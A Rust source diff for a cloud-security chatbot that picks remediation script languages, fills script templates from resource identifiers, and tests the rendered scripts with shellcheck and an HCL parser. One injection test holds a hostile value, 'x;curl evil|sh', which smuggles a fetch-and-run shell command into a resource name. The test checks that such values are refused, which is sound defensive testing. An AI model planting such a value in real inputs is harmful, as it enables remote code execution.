@@ -3,7 +3,7 @@
 
 use std::sync::Arc;
 
-use secbot_chat::{Action, ActionStyle, Card, CodeBlock, Fact, Intent, Section, Subject};
+use secbot_chat::{Action, ActionStyle, Card, CodeBlock, Command, Fact, Intent, Section, Slots, Subject};
 use time::Duration;
 
 use super::present::{finding_item, finding_subject, subscription_name};
@@ -82,14 +82,35 @@ pub(crate) async fn run(req: &Request<'_>) -> Result<Answer, SkillError> {
         }
     }
 
+    let mut other_tools: Vec<&str> = Vec::new();
     match &rec.remediation {
         Some(fix) => {
             card.sections.push(Section { heading: "Steps".to_owned(), lines: fix.steps.clone(), numbered: true });
-            let scripts = pick_scripts(&fix.scripts, req.parse.tool);
-            if let (Some(tool), false) = (req.parse.tool, scripts.iter().any(|s| Some(s.tool.as_str()) == req.parse.tool)) {
-                card.notices.push(format!("secbot has no {} script for this recommendation; here are the ones it has.", tool_label(tool)));
+            // Scripts that need a value this resource does not have (an Azure resource group on
+            // an EC2 instance) are for other clouds' resources.
+            let usable: Vec<&Script> = fix
+                .scripts
+                .iter()
+                .filter(|s| !matches!(fill(&s.code, &primary.resource), Err(FillError::Missing(_))))
+                .collect();
+            let shown = shown_tool(&usable, req.parse.tool, primary.resource.cloud);
+            if let Some(tool) = req.parse.tool
+                && shown != Some(tool)
+            {
+                let instead = shown.map(|s| format!("; here is the {} one", tool_label(s))).unwrap_or_default();
+                let res = &primary.resource;
+                card.notices.push(match cloud_of_tool(tool) {
+                    Some(cloud) if cloud != res.cloud => format!(
+                        "{} only manages {} resources and {} is in {}{instead}.",
+                        tool_label(tool),
+                        cloud.label(),
+                        res.name,
+                        res.cloud.label()
+                    ),
+                    _ => format!("secbot has no {} script for this recommendation yet{instead}.", tool_label(tool)),
+                });
             }
-            for script in scripts {
+            for script in usable.iter().filter(|s| Some(s.tool.as_str()) == shown) {
                 let mut filled = Vec::new();
                 for f in &same_rec {
                     match fill(&script.code, &f.resource) {
@@ -105,6 +126,7 @@ pub(crate) async fn run(req: &Request<'_>) -> Result<Answer, SkillError> {
                     });
                 }
             }
+            other_tools = tools_of(&usable).into_iter().filter(|t| Some(*t) != shown).collect();
         }
         None => card.sections.push(Section {
             heading: "Steps".to_owned(),
@@ -141,6 +163,20 @@ pub(crate) async fn run(req: &Request<'_>) -> Result<Answer, SkillError> {
             .styled(ActionStyle::Primary),
         Action::ask("Exempt instead", req.response_id, "exempt this"),
     ];
+    // The same fix in each other language, one button each: one script at a time keeps the
+    // card short enough to read in a channel.
+    card.actions.extend(other_tools.into_iter().map(|tool| {
+        Action::new(
+            tool_label(tool),
+            req.response_id,
+            Command::Run {
+                intent: Intent::Remediate,
+                subject: Some(subject.clone()),
+                slots: Slots { tool: Some(tool.to_owned()), ..Slots::default() },
+                offset: 0,
+            },
+        )
+    }));
     Ok(Answer::card(card).about(Some(subject)))
 }
 
@@ -231,10 +267,43 @@ async fn exemption(req: &Request<'_>, f: &Finding) -> Result<Answer, SkillError>
     Ok(Answer::card(card).about(Some(subject)))
 }
 
-/// The scripts to show: only the asked-for tool when there is one, else all.
-fn pick_scripts<'a>(scripts: &'a [Script], tool: Option<&str>) -> Vec<&'a Script> {
-    let wanted: Vec<&Script> = scripts.iter().filter(|s| Some(s.tool.as_str()) == tool).collect();
-    if wanted.is_empty() { scripts.iter().collect() } else { wanted }
+/// The script language to show: the one asked for when there is a script in it, else the
+/// cloud's own CLI, else the first there is.
+fn shown_tool(scripts: &[&Script], asked: Option<&str>, cloud: secbot_chat::Cloud) -> Option<&'static str> {
+    let tools = tools_of(scripts);
+    let usual = match cloud {
+        secbot_chat::Cloud::Azure => "azure_cli",
+        secbot_chat::Cloud::Aws => "aws_cli",
+        secbot_chat::Cloud::Gcp => "gcloud",
+    };
+    [asked, Some(usual)]
+        .into_iter()
+        .flatten()
+        .find_map(|wanted| tools.iter().find(|t| **t == wanted).copied())
+        .or(tools.first().copied())
+}
+
+/// The languages a recommendation has scripts in, in the catalog's order, each once.
+fn tools_of(scripts: &[&Script]) -> Vec<&'static str> {
+    let mut tools: Vec<&'static str> = Vec::new();
+    for script in scripts {
+        if let Some(tool) = crate::intent::TOOLS.iter().find(|t| **t == script.tool)
+            && !tools.contains(tool)
+        {
+            tools.push(tool);
+        }
+    }
+    tools
+}
+
+/// The one cloud a script language works with, for the languages tied to one.
+fn cloud_of_tool(tool: &str) -> Option<secbot_chat::Cloud> {
+    match tool {
+        "azure_cli" | "bicep" => Some(secbot_chat::Cloud::Azure),
+        "aws_cli" => Some(secbot_chat::Cloud::Aws),
+        "gcloud" => Some(secbot_chat::Cloud::Gcp),
+        _ => None,
+    }
 }
 
 fn tool_label(tool: &str) -> &str {
@@ -261,37 +330,134 @@ fn safe(value: &str) -> bool {
     !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.:/()".contains(c))
 }
 
+/// The variables a script template can use (`{{name}}`; `{{repository?}}` when optional).
+pub(crate) const VARIABLES: [&str; 15] = [
+    "name",
+    "resource_group",
+    "subscription",
+    "account",
+    "project",
+    "location",
+    "region",
+    "resource_id",
+    "native_id",
+    "instance_id",
+    "zone",
+    "registry",
+    "registry_id",
+    "repository",
+    "tag",
+];
+
+/// Why a script could not be filled in for a resource.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+enum FillError {
+    /// The script needs a value the resource does not have: it is for another kind of resource.
+    #[error("the resource has no {}", .0.replace('_', " "))]
+    Missing(String),
+    /// A value holds characters that could change what the script does.
+    #[error("its {} contains characters that are not safe in a script", .0.replace('_', " "))]
+    Unsafe(String),
+    /// The template itself is broken.
+    #[error("the script template is malformed")]
+    Malformed,
+}
+
 /// Fills a script's template variables from the resource. Refuses values that are not plain
-/// names (cloud data could carry shell syntax) and variables the resource has no value for.
-fn fill(template: &str, resource: &Resource) -> Result<String, String> {
-    let value = |var: &str| -> Option<String> {
-        Some(match var {
-            "name" => resource.name.clone(),
-            "resource_group" => resource.resource_group.clone()?,
-            "subscription" | "account" | "project" => resource.subscription.clone(),
-            "location" | "region" => resource.region.clone(),
-            "resource_id" => resource.id.clone(),
-            _ => return None,
-        })
-    };
+/// names (cloud data could carry shell syntax) and variables the resource has no value for;
+/// `{{var?}}` is optional and fills in empty when the resource has no such value.
+fn fill(template: &str, resource: &Resource) -> Result<String, FillError> {
+    let ids = ResourceIds::of(resource);
     let mut out = String::with_capacity(template.len());
     let mut rest = template;
     while let Some(start) = rest.find("{{") {
         out.push_str(&rest[..start]);
-        let end = rest[start..].find("}}").map(|e| e + start).ok_or("the script template is malformed")?;
+        let end = rest[start..].find("}}").map(|e| e + start).ok_or(FillError::Malformed)?;
         let var = &rest[start + 2..end];
-        let v = value(var).ok_or_else(|| format!("the resource has no {}", var.replace('_', " ")))?;
-        if !safe(&v) {
-            return Err(format!(
-                "its {} contains characters that are not safe in a script",
-                var.replace('_', " ")
-            ));
+        let (var, optional) = match var.strip_suffix('?') {
+            Some(var) => (var, true),
+            None => (var, false),
+        };
+        if !VARIABLES.contains(&var) {
+            return Err(FillError::Malformed);
         }
-        out.push_str(&v);
+        match ids.value(var) {
+            Some(v) if !safe(&v) => return Err(FillError::Unsafe(var.to_owned())),
+            Some(v) => out.push_str(&v),
+            None if optional => {}
+            None => return Err(FillError::Missing(var.to_owned())),
+        }
         rest = &rest[end + 2..];
     }
     out.push_str(rest);
     Ok(out)
+}
+
+/// The identifiers a script can address a resource by, read from the resource and its id: the
+/// cloud's own CLIs want ids (an EC2 instance id, a BigQuery dataset id, a registry name), never
+/// the display name a person sees.
+struct ResourceIds<'a> {
+    resource: &'a Resource,
+}
+
+impl<'a> ResourceIds<'a> {
+    fn of(resource: &'a Resource) -> ResourceIds<'a> {
+        ResourceIds { resource }
+    }
+
+    fn value(&self, var: &str) -> Option<String> {
+        let r = self.resource;
+        Some(match var {
+            "name" => r.name.clone(),
+            "resource_group" => r.resource_group.clone()?,
+            "subscription" | "account" | "project" => r.subscription.clone(),
+            "location" | "region" => r.region.clone(),
+            "resource_id" => r.id.clone(),
+            "native_id" => self.native_id().to_owned(),
+            "instance_id" => Some(self.native_id()).filter(|id| id.starts_with("i-"))?.to_owned(),
+            "zone" => self.segment_after("zones")?.to_owned(),
+            "registry" => self.segment_after("registries")?.to_owned(),
+            "registry_id" => {
+                let name = self.segment_after("registries")?;
+                let at = r.id.to_ascii_lowercase().find("/registries/")? + "/registries/".len() + name.len();
+                r.id[..at].to_owned()
+            }
+            "repository" => self.image()?.0.to_owned(),
+            "tag" => self.image()?.1.to_owned(),
+            _ => return None,
+        })
+    }
+
+    /// The identifier the cloud's own API takes: an Azure resource's name, the last part of an
+    /// ARN (`i-0abc…` of `…:instance/i-0abc…`, the bucket of `arn:aws:s3:::bucket`) or of a GCP
+    /// resource name (`bq_customer_360` of `…/datasets/bq_customer_360`).
+    fn native_id(&self) -> &'a str {
+        let r = self.resource;
+        match r.cloud {
+            secbot_chat::Cloud::Azure => &r.name,
+            _ => r.id.rsplit(['/', ':']).next().filter(|s| !s.is_empty()).unwrap_or(&r.name),
+        }
+    }
+
+    /// The path segment after `key` in the resource id (`registries` → the registry's name).
+    fn segment_after(&self, key: &str) -> Option<&'a str> {
+        let mut parts = self.resource.id.split('/');
+        parts.by_ref().find(|p| p.eq_ignore_ascii_case(key))?;
+        parts.next().filter(|s| !s.is_empty())
+    }
+
+    /// The repository and tag of a container image (`…/images/checkout-api:1.14.2`).
+    fn image(&self) -> Option<(&'a str, &'a str)> {
+        let id = &self.resource.id;
+        let at = id.to_ascii_lowercase().find("/images/")? + "/images/".len();
+        let image = &id[at..];
+        match image.rsplit_once(':') {
+            Some((repository, tag)) if !repository.is_empty() && !tag.contains('/') => {
+                Some((repository, tag))
+            }
+            _ => Some((image, "latest")).filter(|_| !image.is_empty()),
+        }
+    }
 }
 
 #[cfg(test)]
@@ -328,11 +494,212 @@ mod tests {
     }
 
     #[test]
+    fn scripts_can_name_the_ids_the_clouds_take() {
+        let mut ec2 = resource("ec2-web-01");
+        ec2.cloud = Cloud::Aws;
+        ec2.id = "arn:aws:ec2:us-east-1:491827365012:instance/i-06352f6acba5b3106".into();
+        assert_eq!(
+            fill("{{instance_id}} {{native_id}}", &ec2).unwrap(),
+            "i-06352f6acba5b3106 i-06352f6acba5b3106"
+        );
+        assert_eq!(
+            fill("{{instance_id}}", &resource("stlogs")),
+            Err(FillError::Missing("instance_id".into()))
+        );
+
+        let mut dataset = resource("bq-customer-360");
+        dataset.cloud = Cloud::Gcp;
+        dataset.id = "//bigquery.googleapis.com/projects/p1/datasets/bq_customer_360".into();
+        assert_eq!(fill("{{native_id}}", &dataset).unwrap(), "bq_customer_360");
+        dataset.id = "//compute.googleapis.com/projects/p1/zones/us-central1-a/instances/gce-1".into();
+        assert_eq!(fill("{{zone}}", &dataset).unwrap(), "us-central1-a");
+
+        let mut image = resource("checkout-api:1.14.2");
+        image.id = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/acrprod/images/checkout-api:1.14.2".into();
+        assert_eq!(
+            fill("{{registry}} {{repository}} {{tag}} {{registry_id}}", &image).unwrap(),
+            "acrprod checkout-api 1.14.2 /subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/acrprod"
+        );
+        let mut registry = image.clone();
+        registry.id =
+            "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/acrprod"
+                .into();
+        assert_eq!(fill("[{{repository?}}] {{registry}}", &registry).unwrap(), "[] acrprod");
+        assert_eq!(fill("{{repository}}", &registry), Err(FillError::Missing("repository".into())));
+        assert_eq!(fill("{{password}}", &registry), Err(FillError::Malformed), "unknown variables are not filled");
+    }
+
+    #[test]
     fn cloud_data_that_could_inject_shell_is_never_filled_in() {
         let err = fill("az storage account update --name {{name}}", &resource("x;curl evil|sh")).unwrap_err();
-        assert!(err.contains("not safe"), "{err}");
+        assert!(err.to_string().contains("not safe"), "{err}");
         let mut aws = resource("bucket");
         aws.resource_group = None;
-        assert!(fill("--resource-group {{resource_group}}", &aws).unwrap_err().contains("no resource group"));
+        assert_eq!(
+            fill("--resource-group {{resource_group}}", &aws).unwrap_err().to_string(),
+            "the resource has no resource group"
+        );
+    }
+}
+
+/// Every script of every open finding of the demo tenant, filled in as a card shows it, checked
+/// for the mistakes a reviewer found (display names where the cloud wants ids, silenced errors)
+/// and by the real tools when they are installed: shellcheck for shell, an HCL parser for
+/// Terraform. CI installs both and sets `SECBOT_REQUIRE_TOOLS=1`.
+#[cfg(test)]
+mod rendered {
+    use std::collections::HashSet;
+    use std::path::{Path, PathBuf};
+    use std::process::Command as Process;
+
+    use time::macros::date;
+
+    use super::{FillError, fill};
+    use crate::demo::{self, DemoOptions};
+    use crate::posture::Status;
+
+    struct Rendered {
+        what: String,
+        language: String,
+        code: String,
+    }
+
+    fn rendered() -> Vec<Rendered> {
+        let data = demo::tenant(&DemoOptions::for_day(date!(2026 - 11 - 25)));
+        let mut seen = HashSet::new();
+        let mut out = Vec::new();
+        for f in data.findings.iter().filter(|f| f.status == Status::Unhealthy) {
+            let rec = &data.recommendations[f.recommendation as usize];
+            let res = &data.resources[f.resource as usize];
+            let Some(fix) = &rec.remediation else { continue };
+            let mut usable = 0;
+            for script in &fix.scripts {
+                let code = match fill(&script.code, res) {
+                    Ok(code) => code,
+                    Err(FillError::Missing(_)) => continue,
+                    Err(why) => panic!("{} on {}: {} script: {why}", rec.name, res.name, script.tool),
+                };
+                usable += 1;
+                if seen.insert(code.clone()) {
+                    out.push(Rendered {
+                        what: format!("{} on {} ({})", rec.name, res.name, script.tool),
+                        language: script.language.clone(),
+                        code,
+                    });
+                }
+            }
+            assert!(usable > 0, "{} on {} ({:?}): no script fits it", rec.name, res.name, res.cloud);
+        }
+        out
+    }
+
+    #[test]
+    fn every_script_addresses_resources_by_the_ids_the_clouds_take() {
+        let all = rendered();
+        assert!(all.len() > 300, "{} scripts", all.len());
+        for r in &all {
+            assert!(!r.code.contains("{{"), "{}: unfilled variable\n{}", r.what, r.code);
+            for quoted in r.code.split("--instance-ids \"").skip(1) {
+                let value = quoted.split('"').next().unwrap_or_default();
+                let id = match value.strip_prefix('$') {
+                    Some(var) => r.code.split(&format!("{var}=\"")).nth(1).unwrap_or_default(),
+                    None => value,
+                };
+                assert!(id.starts_with("i-"), "{}: EC2 instances are addressed by id\n{}", r.what, r.code);
+            }
+            for line in r.code.lines().filter(|l| l.contains("az acr build")) {
+                assert!(
+                    !line.contains(":1.") && line.contains("--registry \"$REGISTRY\""),
+                    "{}: {line}",
+                    r.what
+                );
+            }
+            assert!(
+                !r.code.contains(">/dev/null 2>&1 &&") && !r.code.contains("2>&1 >/dev/null"),
+                "{}: a failing command must not be silenced\n{}",
+                r.what,
+                r.code
+            );
+        }
+    }
+
+    fn required() -> bool {
+        std::env::var("SECBOT_REQUIRE_TOOLS").is_ok_and(|v| v == "1")
+    }
+
+    fn tool_missing(tool: &str, install: &str) -> bool {
+        let found = Process::new(tool).arg("--version").output().is_ok_and(|o| o.status.success());
+        if !found {
+            assert!(!required(), "{tool} is required: {install}");
+            eprintln!("skipped: {tool} is not installed ({install})");
+        }
+        !found
+    }
+
+    fn write_all(dir: &Path, scripts: &[&Rendered], extension: &str) -> Vec<PathBuf> {
+        std::fs::create_dir_all(dir).unwrap();
+        scripts
+            .iter()
+            .enumerate()
+            .map(|(i, r)| {
+                let path = dir.join(format!("{i:04}.{extension}"));
+                std::fs::write(&path, format!("# {}\n{}\n", r.what, r.code)).unwrap();
+                path
+            })
+            .collect()
+    }
+
+    fn scratch(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!("secbot-{name}-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        dir
+    }
+
+    #[test]
+    fn every_shell_script_passes_shellcheck() {
+        if tool_missing("shellcheck", "apt-get install shellcheck") {
+            return;
+        }
+        let all = rendered();
+        let shell: Vec<&Rendered> = all.iter().filter(|r| r.language == "bash").collect();
+        let dir = scratch("shellcheck");
+        let files = write_all(&dir, &shell, "sh");
+        let out = Process::new("shellcheck")
+            .args(["--shell=bash", "--severity=warning", "--format=gcc"])
+            .args(&files)
+            .output()
+            .unwrap();
+        let report = String::from_utf8_lossy(&out.stdout).into_owned();
+        let _ = std::fs::remove_dir_all(&dir);
+        eprintln!("shellcheck: {} shell scripts", shell.len());
+        assert!(out.status.success() && report.is_empty(), "shellcheck found problems:\n{report}");
+    }
+
+    #[test]
+    fn every_terraform_snippet_parses() {
+        const PARSE: &str = "import hcl2, sys\nbad = 0\nfor path in sys.argv[1:]:\n    try:\n        hcl2.load(open(path))\n    except Exception as e:\n        bad += 1\n        print(path, open(path).readline().strip(), e)\nsys.exit(1 if bad else 0)\n";
+        if tool_missing("python3", "apt-get install python3") {
+            return;
+        }
+        let has_hcl2 =
+            Process::new("python3").args(["-c", "import hcl2"]).output().is_ok_and(|o| o.status.success());
+        if !has_hcl2 {
+            assert!(!required(), "python-hcl2 is required: python3 -m pip install python-hcl2==7.2.1");
+            eprintln!("skipped: python-hcl2 is not installed (python3 -m pip install python-hcl2==7.2.1)");
+            return;
+        }
+        let all = rendered();
+        let terraform: Vec<&Rendered> = all.iter().filter(|r| r.language == "hcl").collect();
+        assert!(!terraform.is_empty());
+        let dir = scratch("hcl");
+        let files = write_all(&dir, &terraform, "tf");
+        let out = Process::new("python3").args(["-c", PARSE]).args(&files).output().unwrap();
+        let _ = std::fs::remove_dir_all(&dir);
+        eprintln!("python-hcl2: {} Terraform snippets", terraform.len());
+        assert!(
+            out.status.success(),
+            "Terraform that does not parse:\n{}",
+            String::from_utf8_lossy(&out.stdout)
+        );
     }
 }
